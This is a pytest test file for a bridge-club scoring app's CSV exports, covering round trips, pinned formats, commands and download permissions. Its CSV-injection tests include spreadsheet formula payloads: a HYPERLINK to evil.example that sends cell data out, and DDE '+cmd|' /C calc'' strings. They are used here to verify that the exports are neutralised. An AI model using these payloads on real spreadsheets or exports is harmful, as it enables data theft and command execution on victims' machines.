"""The results and travellers CSVs: pinned formats, a faithful round trip, command and views."""

from io import StringIO

import pytest
from django.core.management import CommandError, call_command
from django.urls import reverse

from events.formats.csv_export import results_csv, spreadsheet_safe, travellers_csv
from events.models import Pair, Result
from events.sessions.importing import import_travellers
from events.standings.ranking import event_standings
from tests.events.sessions.test_importing import HEADER, THREE_TABLES

# Two sections of three tables: made, overtricks, down, doubled, redoubled, a trick count,
# PASS, adjusted (codes and percentages), NP, weighted scores, bare scores in the score
# column, a fouled board's group 2, and an arrow-switched board ("2EW" sitting NS).
VARIED = "section,board,ns,ew,contract,declarer,result,score,foul_group\n" + "\n".join(
    [
        "A,1,1,1,4S,N,=,,", "A,1,2,3,4S,N,+1,,", "A,1,3,2,4S,N,-1,,2",
        "A,2,1,3,3NTX,S,-2,,", "A,2,2,2,PASS,,,,", "A,2,3,1,,,,-100,",
        "A,3,1,2,A+/A-,,,,", "A,3,2,1,NP,,,,", "A,3,3,3,60% 4S N = + 40% 4S N -1,,,,",
        "B,1,1,1,4HXX,E,-1,,", "B,1,2,3,2H,E,8,,", "B,1,3,2,1NT,W,+2,,",
        "B,2,1,3,55/45,,,,", "B,2,2,2,4H,E,11,,", "B,2,3,1,50% 620 + 50% -100,,,,",
        "B,3,2EW,1NS,4S,N,=,,", "B,3,1EW,2NS,4S,N,-1,,", "B,3,3,3,A,,,,", "B,3,4,4,,,,+130,",
    ]
)  # fmt: skip


def run(*args):
    out, err = StringIO(), StringIO()
    call_command(*args, stdout=out, stderr=err)
    return out.getvalue(), err.getvalue()


def results_of(event) -> dict:
    results = Result.objects.filter(board__section__event=event).select_related(
        "board__section", "ns_pair", "ew_pair"
    )
    return {
        (r.board.section.name, r.board.number, r.ns_pair.number, r.ns_pair.direction,
         r.ew_pair.number, r.ew_pair.direction):
        (r.kind, r.ns_score, r.text, r.foul_group, r.ns_percent, r.ew_percent, r.ns_points,
         r.ew_points)
        for r in results
    }  # fmt: skip


def standings_of(event) -> list:
    return [
        (section.name, group.title, row.pair.section.name, row.pair.number, row.pair.direction,
         row.total, row.percentage, row.average, row.rank, row.boards)
        for section, groups in event_standings(event)
        for group in groups
        for row in group.rows
    ]  # fmt: skip


def test_travellers_csv_reimports_to_the_same_results_and_standings(club):
    original = import_travellers(VARIED, club=club, name="Original")
    exported = travellers_csv(original)
    copy = import_travellers(exported, club=club, name="Copy")
    assert results_of(copy) == results_of(original)
    assert len(results_of(copy)) == 19
    assert standings_of(copy) == standings_of(original)
    assert travellers_csv(copy) == exported
    kinds = {r.kind for r in Result.objects.filter(board__section__event=copy)}
    assert kinds == {"played", "adjusted", "not_played", "weighted"}


def test_the_travellers_csv_is_pinned(club):
    event = import_travellers(VARIED, club=club, name="Pinned")
    assert travellers_csv(event) == (
        "section,board,ns,ew,contract,declarer,result,score,foul_group\n"
        "A,1,1,1,4S,N,=,,\n"
        "A,1,2,3,4S,N,+1,,\n"
        "A,1,3,2,4S,N,-1,,2\n"
        "A,2,1,3,3NTX,S,-2,,\n"
        "A,2,2,2,PASS,,,,\n"
        "A,2,3,1,,,,-100,\n"
        "A,3,1,2,A+/A-,,,,\n"
        "A,3,2,1,NP,,,,\n"
        "A,3,3,3,60% 4S N = + 40% 4S N -1,,,,\n"
        "B,1,1,1,4HXX,E,-1,,\n"
        "B,1,2,3,2H,E,=,,\n"
        "B,1,3,2,1NT,W,+2,,\n"
        "B,2,1,3,55/45,,,,\n"
        "B,2,2,2,4H,E,+1,,\n"
        "B,2,3,1,50% +620 + 50% -100,,,,\n"
        "B,3,1EW,2NS,4S,N,-1,,\n"
        "B,3,2EW,1NS,4S,N,=,,\n"
        "B,3,3,3,A,,,,\n"
        "B,3,4,4,,,,130,\n"
    )


def test_optional_columns_are_written_only_when_needed(club):
    event = import_travellers(THREE_TABLES, club=club, name="Plain")
    assert travellers_csv(event) == HEADER + (
        "1,1,1,4S,N,=\n1,2,3,4S,N,+1\n1,3,2,4S,N,-1\n"
        "2,1,3,3NT,S,=\n2,2,2,PASS,,\n2,3,1,3NTX,S,-2\n"
        "3,1,2,A+/A-,,\n3,2,1,2H,E,=\n3,3,3,NP,,\n"
    )


def test_a_howell_is_written_with_bare_pair_numbers(club):
    text = HEADER + "1,1,2,4S,N,=\n1,3,4,4S,N,+1\n2,1,3,3NT,N,=\n2,4,2,3NT,N,-1\n"
    event = import_travellers(text, club=club, name="Howell", movement="howell")
    assert travellers_csv(event) == text
    copy = import_travellers(travellers_csv(event), club=club, name="Copy", movement="howell")
    assert standings_of(copy) == standings_of(event)
    assert {line.split(",")[1] for line in results_csv(event).splitlines()[1:]} == {""}


def test_results_csv_at_matchpoints(club):
    # ACBL matchpoints, top 2. Board 1 (420, 450, -50): NS 1, 2, 0; EW 1 1, EW 3 0, EW 2 2.
    # Board 2 (600, PASS, -500): NS 2, 1, 0; EW 3 0, EW 2 1, EW 1 2. Board 3: A+/A- gives
    # NS 1 1.2, EW 2 0.8; NS 2 v EW 1 the lone played result, Neuberg (0 + 1/2) x 3 - 1/2 = 1
    # each; NS 3 v EW 3 not played (2 boards). NS 1 4.2 of 6 = 70%, NS 2 4 (66.67%), NS 3 0;
    # EW 1 4 (66.67%), EW 2 3.8 (63.33%), EW 3 0.
    event = import_travellers(THREE_TABLES, club=club, name="Tiny")
    event.sections.get().pairs.filter(number=1, direction="NS").update(
        player1="Ann Smith", player2="Bob Jones"
    )
    assert results_csv(event) == (
        "section,direction,pair,names,rank,total,percentage,imps_per_board,boards,penalty\n"
        "A,NS,1,Ann Smith & Bob Jones,1,4.20,70.00,,3,\n"
        "A,NS,2,,2,4.00,66.67,,3,\n"
        "A,NS,3,,3,0.00,0.00,,2,\n"
        "A,EW,1,,1,4.00,66.67,,3,\n"
        "A,EW,2,,2,3.80,63.33,,3,\n"
        "A,EW,3,,3,0.00,0.00,,2,\n"
    )


CROSS_IMPS = HEADER + "1,1,1,4S,N,=\n1,2,2,4S,N,+1\n2,1,2,4S,N,=\n2,2,1,4S,N,-1\n"


def test_results_csv_at_imps_with_a_penalty_through_the_command(db, tmp_path):
    # Cross-IMPs, averaged. Board 1: 420 v 450 is 1 IMP: NS 1 -1, NS 2 +1, EW 1 +1, EW 2 -1.
    # Board 2 (NS vulnerable): 620 v -100 is 720, 12 IMPs: NS 1 +12, NS 2 -12, EW 2 -12,
    # EW 1 +12. NS 1 11 less a 2-IMP penalty: 9, 4.5 a board; NS 2 -11; EW 1 13; EW 2 -13.
    path = tmp_path / "imps.csv"
    path.write_text(CROSS_IMPS)
    out, _ = run(
        "import_travellers",
        str(path),
        "--name",
        "IMPs",
        "--scoring",
        "cross-imps",
        "--penalty",
        "NS 1:2",
    )
    session_id = out.strip().splitlines()[-1]
    out, _ = run("export_results", session_id, "--format", "csv")
    assert out == (
        "section,direction,pair,names,rank,total,percentage,imps_per_board,boards,penalty\n"
        "A,NS,1,,1,9.00,,4.50,2,2.00\n"
        "A,NS,2,,2,-11.00,,-5.50,2,\n"
        "A,EW,1,,1,13.00,,6.50,2,\n"
        "A,EW,2,,2,-13.00,,-6.50,2,\n"
    )


def test_an_arrow_switched_one_winner_keeps_the_directions(club):
    # NS 2 and EW 2 are different pairs even when all pairs rank together.
    text = HEADER + "1,1,1,4S,N,=\n1,2,2,4S,N,+1\n2,2EW,1NS,4S,N,=\n2,1EW,2NS,4S,N,-1\n"
    event = import_travellers(text, club=club, name="One field", one_winner=True)
    rows = [line.split(",") for line in results_csv(event).splitlines()[1:]]
    assert [(row[1], row[2], row[4], row[6]) for row in rows] == [
        ("NS", "2", "1", "100.00"), ("EW", "1", "2=", "50.00"),
        ("EW", "2", "2=", "50.00"), ("NS", "1", "4", "0.00"),
    ]  # fmt: skip
    assert travellers_csv(event) == HEADER + (
        "1,1,1,4S,N,=\n1,2,2,4S,N,+1\n2,1EW,2NS,4S,N,-1\n2,2EW,1NS,4S,N,=\n"
    )


def test_export_results_writes_the_travellers_file_with_any_format(club, tmp_path):
    event = import_travellers(VARIED, club=club, name="Command")
    path = tmp_path / "travellers.csv"
    out, _ = run("export_results", str(event.pk), "--format", "csv", "--travellers", str(path))
    assert out == results_csv(event)
    assert path.read_text(encoding="utf-8") == travellers_csv(event)
    path.unlink()
    out, _ = run("export_results", str(event.pk), "--travellers", str(path))
    assert out.startswith("{") and '"format": "clubscore-results/1"' in out
    assert path.read_text(encoding="utf-8") == travellers_csv(event)


def test_export_results_explains_an_unwritable_travellers_file(club, tmp_path):
    event = import_travellers(THREE_TABLES, club=club, name="Command")
    with pytest.raises(CommandError, match="cannot write .*no-such-folder"):
        run(
            "export_results",
            str(event.pk),
            "--travellers",
            str(tmp_path / "no-such-folder" / "t.csv"),
        )


@pytest.mark.parametrize(
    ("name", "what", "body"),
    [
        ("session_results_csv", "results", results_csv),
        ("session_travellers_csv", "travellers", travellers_csv),
    ],
)
def test_the_csvs_download_from_the_browser(director_client, mitchell_session, name, what, body):
    mitchell_session.sections.get().pairs.filter(number=1, direction="NS").update(
        player1="Zoë", player2="Łukasz"
    )
    response = director_client.get(reverse(name, args=[mitchell_session.pk]))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        f'attachment; filename="clubscore-session-{mitchell_session.pk}-{what}.csv"'
    )
    assert response.content.decode("utf-8") == body(mitchell_session)


@pytest.mark.parametrize("name", ["session_results_csv", "session_travellers_csv"])
def test_an_unpublished_sessions_csvs_are_hidden_from_a_stranger(
    client, stranger, mitchell_session, name
):
    client.force_login(stranger)
    assert client.get(reverse(name, args=[mitchell_session.pk])).status_code == 404
    mitchell_session.published = True
    mitchell_session.save()
    assert client.get(reverse(name, args=[mitchell_session.pk])).status_code == 200


# CSV injection (OWASP, "CSV Injection"): a cell starting with = + - @ tab or carriage return is
# run as a formula by spreadsheets, so text cells get a leading apostrophe; numbers must not.
@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (
            '=HYPERLINK("http://evil.example","Click")',
            '\'=HYPERLINK("http://evil.example","Click")',
        ),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-420", "-420"),
        ("+1", "+1"),
        ("-0.50", "-0.50"),
        ("=", "="),  # the result column's "made exactly": no formula in it
        (-420, -420),
        ("Ann Smith", "Ann Smith"),
        ("50% +620 + 50% -100", "50% +620 + 50% -100"),
    ],
)
def test_cells_a_spreadsheet_would_run_get_an_apostrophe(cell, written):
    assert spreadsheet_safe(cell) == written


def test_a_formula_for_a_name_is_written_as_text_and_scores_stay_numbers(db, tmp_path):
    path = tmp_path / "imps.csv"
    path.write_text(CROSS_IMPS)
    out, _ = run("import_travellers", str(path), "--name", "IMPs", "--scoring", "cross-imps")
    event_id = int(out.strip().splitlines()[-1])
    Pair.objects.filter(section__event_id=event_id, number=2, direction="NS").update(
        player1='=HYPERLINK("http://evil.example/?"&A1,"Click")', player2="@Bob"
    )
    out, _ = run("export_results", str(event_id), "--format", "csv")
    lines = out.splitlines()
    assert lines[2] == (
        'A,NS,2,"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"") & @Bob",2,-11.00,,-5.50,2,'
    )
    assert lines[4] == "A,EW,2,,2,-13.00,,-6.50,2,"
